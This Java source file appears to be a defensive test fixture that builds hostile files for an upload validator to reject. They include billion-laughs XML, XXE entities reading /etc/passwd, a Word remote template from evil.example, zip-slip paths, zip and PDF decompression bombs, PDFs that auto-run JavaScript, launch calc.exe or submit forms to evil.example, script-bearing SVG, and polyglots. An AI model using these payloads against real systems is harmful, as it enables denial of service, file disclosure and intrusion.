package org.itacycle.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.Adler32;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.itacycle.support.SmallPdf;
import org.itacycle.support.SmallPicture;
import org.itacycle.support.SmallWord;

/** Files that are made to harm whoever opens them; none is larger than a few megabytes. */
public final class BadFiles {

    private static final int MEGABYTE = 1024 * 1024;
    private static final Pattern OBJECT = Pattern.compile("(?m)^(\\d+) 0 obj");

    /** Ten entities, each ten times the one before: a thousand million times "lol". */
    private static final String LAUGHS = laughs(10);

    private BadFiles() {}

    /** An entry of a ZIP file. */
    private record Entry(String name, byte[] content) {}

    // whole and halved

    /** The beginning of a file. */
    public static byte[] cut(byte[] whole, double part) {
        return Arrays.copyOf(whole, (int) (whole.length * part));
    }

    /** A file with another behind it. */
    public static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    // ZIP: Word and Excel

    /** A Word file whose text is so many megabytes of blanks. */
    public static byte[] wordOfMegabytes(int megabytes) {
        return withText(out -> {
            byte[] blanks = new byte[MEGABYTE];
            Arrays.fill(blanks, (byte) ' ');
            for (int i = 0; i < megabytes; i++) {
                out.write(blanks);
            }
        });
    }

    /** A Word file of so many paragraphs: small as a file, large as objects. */
    public static byte[] wordOfParagraphs(int paragraphs) {
        return withText(out -> {
            byte[] thousand = "<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(1000).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < paragraphs / 1000; i++) {
                out.write(thousand);
            }
        });
    }

    /** A Word file whose text is the billion laughs. */
    public static byte[] wordThatLaughs() {
        return replaced(
                "word/document.xml",
                LAUGHS
                        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                        + "<w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>");
    }

    /** A Word file that wants a file of its reader, or an answer of a server, as text. */
    public static byte[] wordWithEntity(String address) {
        return replaced(
                "word/document.xml",
                "<!DOCTYPE d [<!ENTITY e SYSTEM \"" + address + "\">]>"
                        + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                        + "<w:body><w:p><w:r><w:t>got &e;</w:t></w:r></w:p></w:body></w:document>");
    }

    /** The same in UTF-16, which a search for ASCII letters overlooks. */
    public static byte[] wordWithEntityInUtf16(String address) {
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE d [<!ENTITY e SYSTEM \"" + address + "\">]>"
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                + "<w:body><w:p><w:r><w:t>got &e;</w:t></w:r></w:p></w:body></w:document>";
        return replaced("word/document.xml", xml.getBytes(StandardCharsets.UTF_16));
    }

    /** A Word file that loads its template, macros included, from a stranger. */
    public static byte[] wordWithRemoteTemplate() {
        return wordWithTemplate("http://evil.example/t.dotm");
    }

    /** A Word file with this template. */
    public static byte[] wordWithTemplate(String address) {
        return replaced(
                "word/_rels/settings.xml.rels",
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships/attachedTemplate\" Target=\"" + address + "\""
                        + " TargetMode=\"External\"/></Relationships>");
    }

    /** A Word file with another entry of any name. */
    public static byte[] wordWithEntry(String name) {
        List<Entry> entries = word();
        entries.add(new Entry(name, "x".getBytes(StandardCharsets.UTF_8)));
        return zip(entries);
    }

    /** A Word file of so many entries. */
    public static byte[] wordOfEntries(int count) {
        List<Entry> entries = word();
        for (int i = 0; i < count; i++) {
            entries.add(new Entry("word/media/" + i, new byte[0]));
        }
        return zip(entries);
    }

    /** ZIP files in ZIP files, so many deep; the innermost is ten megabytes of zeros, each layer holds ten of the next. */
    public static byte[] nestedZip(int layers) {
        byte[] inner = new byte[10 * MEGABYTE];
        for (int layer = 0; layer < layers; layer++) {
            List<Entry> entries = layer == layers - 1 ? word() : new ArrayList<>();
            for (int i = 0; i < 10; i++) {
                entries.add(new Entry("word/embeddings/" + layer + "-" + i + ".zip", inner));
            }
            inner = zip(entries);
        }
        return inner;
    }

    /**
     * A ZIP whose entries overlap: its list names many files, and all of them are the same compressed bytes (after
     * D. Fifield, A better zip bomb, 2019).
     */
    public static byte[] overlappingZip(int files) {
        byte[] zeros = deflated(new byte[10 * MEGABYTE], true);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        long crc = crc(new byte[10 * MEGABYTE]);
        byte[] first = "[Content_Types].xml".getBytes(StandardCharsets.UTF_8);
        out.writeBytes(localHeader(first, zeros.length, 10 * MEGABYTE, crc));
        out.writeBytes(zeros);
        int start = out.size();
        for (int i = 0; i < files; i++) {
            String name = i == 0 ? "[Content_Types].xml" : i == 1 ? "word/document.xml" : "word/media/" + i;
            out.writeBytes(listHeader(name.getBytes(StandardCharsets.UTF_8), zeros.length, 10 * MEGABYTE, crc, 0));
        }
        out.writeBytes(endOfList(files, out.size() - start, start));
        return out.toByteArray();
    }

    /** A ZIP that is none of Word or Excel. */
    public static byte[] anyZip() {
        return zip(List.of(new Entry("page.html", "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8))));
    }

    // PDF

    /** Something a PDF does by itself when it is opened, or on a click: the key and what is behind it. */
    public static Map<String, byte[]> activePdfs() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("JavaScript at opening", pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "", ""));
        files.put("JavaScript with an escaped name", pdf("/Open#41ction << /S /Java#53cript /JS (x) >>", "", ""));
        files.put(
                "JavaScript by name",
                pdf(
                        "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
                        "",
                        "5 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"));
        files.put(
                "JavaScript in a stream",
                pdf(
                        "/OpenAction << /S /JavaScript /JS 5 0 R >>",
                        "",
                        "5 0 obj << /Length 12 >> stream\napp.alert(1)\nendstream endobj\n"));
        files.put("a program at opening", pdf("/OpenAction << /S /Launch /F (calc.exe) >>", "", ""));
        files.put("an address at opening", pdf("/OpenAction << /S /URI /URI (http://evil.example/) >>", "", ""));
        files.put("another file at opening", pdf("/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", "", ""));
        files.put("sends a form at opening", pdf("/OpenAction << /S /SubmitForm /F (http://evil.example/) >>", "", ""));
        files.put(
                "a chain of actions",
                pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x)" + " >> >>", "", ""));
        files.put("an action of the document", pdf("/AA << /WC << /S /JavaScript /JS (x) >> >>", "", ""));
        files.put("an action of a page", pdf("", "/AA << /O << /S /JavaScript /JS (x) >> >>", ""));
        files.put(
                "a link that starts a program",
                pdf(
                        "",
                        "/Annots [5 0 R]",
                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (calc.exe) >> >> endobj\n"));
        files.put(
                "a link that runs a script",
                pdf(
                        "",
                        "/Annots [5 0 R]",
                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /JavaScript /JS (x) >> >> endobj\n"));
        files.put(
                "a link with a script address",
                pdf(
                        "",
                        "/Annots [5 0 R]",
                        "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (javascript:alert\\(1\\)) >>"
                                + " >> endobj\n"));
        files.put(
                "an embedded file",
                pdf(
                        "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>",
                        "",
                        "5 0 obj << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> endobj\n"
                                + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
        files.put(
                "a file as a note",
                pdf(
                        "",
                        "/Annots [5 0 R]",
                        "5 0 obj << /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe)"
                                + " /EF << /F 6 0 R >> >> >> endobj\n"
                                + "6 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj\n"));
        files.put(
                "a film",
                pdf("", "/Annots [5 0 R]", "5 0 obj << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >> endobj\n"));
        files.put(
                "an XML form",
                pdf(
                        "/AcroForm << /Fields [] /XFA 5 0 R >>",
                        "",
                        "5 0 obj << /Length " + LAUGHS.length() + " >> stream\n" + LAUGHS + "\nendstream endobj\n"));
        return files;
    }

    /** A link to a web page and one within the file, as honest documents have them. */
    public static byte[] pdfWithLinks() {
        return pdf(
                "/OpenAction [3 0 R /Fit]",
                "/Annots [5 0 R 6 0 R]",
                "5 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nacc.go.th/) >> >>"
                        + " endobj\n"
                        + "6 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >> endobj\n");
    }

    /** A page tree so many levels deep. */
    public static byte[] deepPdf(int levels) {
        StringBuilder objects = new StringBuilder();
        for (int level = 0; level < levels; level++) {
            objects.append(
                    "%d 0 obj << /Type /Pages /Count 1 /Kids [%d 0 R] >> endobj\n".formatted(10 + level, 11 + level));
        }
        objects.append("%d 0 obj << /Type /Page /MediaBox [0 0 595 842] /Parent %d 0 R >> endobj\n"
                .formatted(10 + levels, 9 + levels));
        return pdfOf("1 0 obj << /Type /Catalog /Pages 10 0 R >> endobj\n" + objects);
    }

    /** A page tree that is its own child. */
    public static byte[] loopingPdf() {
        return pdfOf("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                + "2 0 obj << /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >> endobj\n");
    }

    /** Brackets in brackets, so many. */
    public static byte[] bracketedPdf(int depth) {
        return pdf("/Lang " + "[".repeat(depth) + "]".repeat(depth), "", "");
    }

    /** A page whose content is so many megabytes, packed to a thousandth. */
    public static byte[] swellingPdf(int megabytes) {
        byte[] packed = deflated(megabytes, "0 0 m\n");
        return withStream(
                "4 0 obj << /Filter /FlateDecode /Length " + packed.length + " >> stream\n", packed, "/Contents 4 0 R");
    }

    /** The same, packed twice: a file of some kilobytes. */
    public static byte[] twiceSwellingPdf(int megabytes) {
        byte[] packed = deflated(deflated(megabytes, "0 0 m\n"));
        return withStream(
                "4 0 obj << /Filter [/FlateDecode /FlateDecode] /Length " + packed.length + " >> stream\n",
                packed,
                "/Contents 4 0 R");
    }

    /** Objects in a stream that swells when the file is opened, whatever is read of it. */
    public static byte[] pdfOfSwellingObjects(int megabytes) {
        byte[] packed = deflated(megabytes, "        ");
        return withStream(
                "4 0 obj << /Type /ObjStm /N 1 /First 10 /Filter /FlateDecode /Length " + packed.length
                        + " >> stream\n",
                packed,
                "");
    }

    /** A page with a picture of so many pixels each way. */
    public static byte[] pdfWithPicture(int side) {
        byte[] packed = deflated(side / 8 * side / MEGABYTE + 1, "\u0000\u0000\u0000\u0000");
        return withStream(
                "4 0 obj << /Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 1 /ColorSpace /DeviceGray"
                                .formatted(side, side)
                        + " /Filter /FlateDecode /Length " + packed.length + " >> stream\n",
                packed,
                "/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R");
    }

    /** A page whose content went through this filter. */
    public static byte[] pdfWithFilter(String filter, byte[] packed) {
        return withStream(
                "4 0 obj << /Filter " + filter + " /Length " + packed.length + " >> stream\n",
                packed,
                "/Contents 4 0 R");
    }

    /** So many megabytes of one letter, packed as PDF packs repetitions: two bytes for each 128. */
    public static byte[] runs(int megabytes) {
        byte[] packed = new byte[megabytes * MEGABYTE / 64 + 1];
        for (int i = 0; i < packed.length - 1; i += 2) {
            packed[i] = (byte) 129;
            packed[i + 1] = ' ';
        }
        packed[packed.length - 1] = (byte) 128;
        return packed;
    }

    /** A page as large as a field. */
    public static byte[] pdfOfAField() {
        return pdfOf("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                + "2 0 obj << /Type /Pages /Count 1 /Kids [3 0 R] >> endobj\n"
                + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] >> endobj\n");
    }

    /** A PDF of one page, with more in its catalogue, its page, and behind them. */
    public static byte[] pdf(String inCatalogue, String inPage, String more) {
        return pdfOf("1 0 obj << /Type /Catalog /Pages 2 0 R " + inCatalogue + " >> endobj\n"
                + "2 0 obj << /Type /Pages /Count 1 /Kids [3 0 R] >> endobj\n"
                + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + inPage + " >> endobj\n" + more);
    }

    // pictures

    /** A PNG that says it is so wide and high; its pixels are missing. */
    public static byte[] png(int width, int height) {
        return SmallPicture.png(width, height, deflated(new byte[64]));
    }

    /** A drawing that runs scripts and wants files. */
    public static byte[] svg() {
        return (LAUGHS + "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script>"
                        + "<text>&l9;</text></svg>")
                .getBytes(StandardCharsets.UTF_8);
    }

    // polyglots and others

    /** Two files in one: what one program takes for the first another takes for the second. */
    public static Map<String, byte[]> polyglots() {
        byte[] page = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("PDF and ZIP", joined(SmallPdf.of("x"), anyZip()));
        files.put("PNG and ZIP", joined(SmallPicture.png(8, 8), anyZip()));
        files.put("PNG and page", joined(SmallPicture.png(8, 8), page));
        files.put("JPEG and ZIP", joined(SmallPicture.jpeg(8, 8), anyZip()));
        files.put("page and PDF", joined(page, SmallPdf.of("x")));
        files.put("GIF and script", "GIF89a/*\u0000\u0000*/=alert(1)//".getBytes(StandardCharsets.ISO_8859_1));
        files.put("program and PDF", joined("MZ\u0000\u0000".getBytes(StandardCharsets.US_ASCII), SmallPdf.of("x")));
        return files;
    }

    /** Everything here that the product has to refuse wherever a file is attached. */
    public static Map<String, byte[]> all() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("nothing", new byte[0]);
        files.put("a letter", new byte[] {'x'});
        files.put("text", "just text".getBytes(StandardCharsets.UTF_8));
        files.put("page", "<!DOCTYPE html><script>alert(1)</script>".getBytes(StandardCharsets.UTF_8));
        files.put("SVG", svg());
        files.put("laughing XML", LAUGHS.getBytes(StandardCharsets.UTF_8));
        files.put("ZIP", anyZip());
        files.put("half a PDF", cut(SmallPdf.of("x"), 0.6));
        files.put("half a Word file", cut(SmallWord.of("x"), 0.6));
        files.put("half a PNG", cut(SmallPicture.png(8, 8), 0.6));
        files.put("half a JPEG", cut(SmallPicture.jpeg(8, 8), 0.8));
        files.put("Word of 40 MB", wordOfMegabytes(40));
        files.put("Word that laughs", wordThatLaughs());
        files.put("Word with a file", wordWithEntity("file:///etc/passwd"));
        files.put("Word with a file in UTF-16", wordWithEntityInUtf16("file:///etc/passwd"));
        files.put("Word with a stranger's template", wordWithRemoteTemplate());
        files.put("Word that leaves its folder", wordWithEntry("../../evil.txt"));
        files.put("Word with a root", wordWithEntry("/etc/cron.d/evil"));
        files.put("Word with a drive", wordWithEntry("C:\\evil.txt"));
        files.put("Word with a macro", wordWithEntry("word/vbaProject.bin"));
        files.put("Word of 20,000 entries", wordOfEntries(20_000));
        files.put("nested ZIP", nestedZip(3));
        files.put("overlapping ZIP", overlappingZip(1000));
        activePdfs().forEach((name, content) -> files.put("PDF with " + name, content));
        files.put("PDF that goes round", loopingPdf());
        files.put("PDF 100,000 levels deep", deepPdf(100_000));
        files.put("PDF of brackets", bracketedPdf(200_000));
        files.put("PDF that swells", swellingPdf(1500));
        files.put("PDF that swells twice", twiceSwellingPdf(1500));
        files.put("PDF of swelling objects", pdfOfSwellingObjects(300));
        files.put("PNG of 10,000 million pixels", png(100_000, 100_000));
        files.put("JPEG of 4,000 million pixels", SmallPicture.jpeg(65_535, 65_535));
        files.putAll(polyglots());
        return files;
    }

    /** Entities made of entities, so many levels of them. */
    static String laughs(int levels) {
        StringBuilder text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY l0 \"lol\">");
        for (int level = 1; level < levels; level++) {
            text.append("<!ENTITY l%d \"%s\">".formatted(level, ("&l" + (level - 1) + ";").repeat(10)));
        }
        return text.append("]>").toString();
    }

    private interface Writing {
        void to(OutputStream out) throws IOException;
    }

    private static List<Entry> word() {
        List<Entry> entries = new ArrayList<>();
        try (var zip = new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(SmallWord.of("x")))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                entries.add(new Entry(entry.getName(), zip.readAllBytes()));
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return entries;
    }

    private static byte[] replaced(String name, String content) {
        return replaced(name, content.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] replaced(String name, byte[] content) {
        List<Entry> entries = word();
        entries.removeIf(entry -> entry.name().equals(name));
        entries.add(new Entry(name, content));
        return zip(entries);
    }

    /** A Word file with this between the beginning and the end of its text. */
    private static byte[] withText(Writing text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Entry entry : word()) {
                zip.putNextEntry(new ZipEntry(entry.name()));
                if (entry.name().equals("word/document.xml")) {
                    zip.write(("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                                    + "<w:body>")
                            .getBytes(StandardCharsets.UTF_8));
                    text.to(zip);
                    zip.write("</w:body></w:document>".getBytes(StandardCharsets.UTF_8));
                } else {
                    zip.write(entry.content());
                }
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    private static byte[] zip(List<Entry> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Entry entry : entries) {
                zip.putNextEntry(new ZipEntry(entry.name()));
                zip.write(entry.content());
                zip.closeEntry();
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return out.toByteArray();
    }

    private static byte[] localHeader(byte[] name, int packed, int size, long crc) {
        return ByteBuffer.allocate(30 + name.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x04034b50)
                .putShort((short) 20)
                .putShort((short) 0)
                .putShort((short) 8)
                .putInt(0)
                .putInt((int) crc)
                .putInt(packed)
                .putInt(size)
                .putShort((short) name.length)
                .putShort((short) 0)
                .put(name)
                .array();
    }

    private static byte[] listHeader(byte[] name, int packed, int size, long crc, int offset) {
        return ByteBuffer.allocate(46 + name.length)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x02014b50)
                .putShort((short) 20)
                .putShort((short) 20)
                .putShort((short) 0)
                .putShort((short) 8)
                .putInt(0)
                .putInt((int) crc)
                .putInt(packed)
                .putInt(size)
                .putShort((short) name.length)
                .putShort((short) 0)
                .putShort((short) 0)
                .putShort((short) 0)
                .putShort((short) 0)
                .putInt(0)
                .putInt(offset)
                .put(name)
                .array();
    }

    private static byte[] endOfList(int files, int size, int start) {
        return ByteBuffer.allocate(22)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x06054b50)
                .putInt(0)
                .putShort((short) files)
                .putShort((short) files)
                .putInt(size)
                .putInt(start)
                .putShort((short) 0)
                .array();
    }

    private static long crc(byte[] content) {
        CRC32 crc = new CRC32();
        crc.update(content);
        return crc.getValue();
    }

    /** Raw, as in a ZIP. */
    private static byte[] deflated(byte[] content, boolean raw) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, raw);
        try (DeflaterOutputStream packing = new DeflaterOutputStream(out, deflater)) {
            packing.write(content);
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        } finally {
            deflater.end();
        }
        return out.toByteArray();
    }

    private static byte[] deflated(byte[] content) {
        return deflated(content, false);
    }

    /** So many megabytes of this, packed: one packed megabyte, again and again. */
    private static byte[] deflated(int megabytes, String pattern) {
        byte[] piece = pattern.repeat(MEGABYTE / pattern.length()).getBytes(StandardCharsets.ISO_8859_1);
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(piece);
        byte[] packed = new byte[64 * 1024];
        int length = deflater.deflate(packed, 0, packed.length, Deflater.FULL_FLUSH);
        deflater.end();
        Adler32 sum = new Adler32();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(bytes(0x78, 0xDA));
        for (int i = 0; i < megabytes; i++) {
            out.write(packed, 0, length);
            sum.update(piece);
        }
        out.writeBytes(bytes(3, 0));
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) sum.getValue()).array());
        return out.toByteArray();
    }

    private static byte[] withStream(String begin, byte[] content, String inPage) {
        String page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + inPage + " >>";
        byte[] head = ("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                        + "2 0 obj << /Type /Pages /Count 1 /Kids [3 0 R] >> endobj\n3 0 obj " + page + " endobj\n"
                        + "5 0 obj << /Length 26 >> stream\nq 500 0 0 800 0 0 cm /I Do Q\nendstream endobj\n" + begin)
                .getBytes(StandardCharsets.ISO_8859_1);
        byte[] tail = "\nendstream endobj\ntrailer << /Root 1 0 R /Size 6 >>\nstartxref\n0\n%%EOF\n"
                .getBytes(StandardCharsets.ISO_8859_1);
        return joined(joined(head, content), tail);
    }

    /** With the table of its objects, so that no reader mends anything. */
    private static byte[] pdfOf(String objects) {
        String head = "%PDF-1.7\n" + objects;
        StringBuilder table = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
        Matcher object = OBJECT.matcher(head);
        int last = 0;
        while (object.find()) {
            last = Math.max(last, Integer.parseInt(object.group(1)));
            table.append("%s 1\n%010d 00000 n \n".formatted(object.group(1), object.start(1)));
        }
        return (head + table + "trailer << /Root 1 0 R /Size " + (last + 1) + " >>\nstartxref\n" + head.length()
                        + "\n%%EOF\n")
                .getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
